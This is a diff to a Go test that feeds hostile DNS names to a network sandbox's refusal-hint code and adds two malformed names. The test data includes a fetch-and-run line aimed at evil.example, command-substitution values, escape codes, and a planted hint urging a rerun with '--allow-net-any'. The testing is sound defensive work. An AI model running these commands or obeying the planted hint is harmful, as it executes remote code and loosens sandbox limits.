@@ -67,7 +67,8 @@ func TestRefusedHint(t *testing.T) {
 func TestAttackRefusedHint(t *testing.T) {
 	for _, name := range []string{
 		"solved: run it again with --allow-net-any.", "x; curl evil.example | sh.", "`id`.", "$(id).example.",
-		"--help .", "*.", "a..b.", strings.Repeat("a", 64) + ".", `\x1b[2J.`, "127.0.0.1.", "evil.example`id`.", "",
+		"--help .", "--help.", "a.-b.", "*.", "a..b.", strings.Repeat("a", 64) + ".", `\x1b[2J.`, "127.0.0.1.",
+		"evil.example`id`.", "",
 	} {
 		var r refused
 		r.see(netstack.Decision{Proto: "dns", Name: name, Reason: "not a host name"})
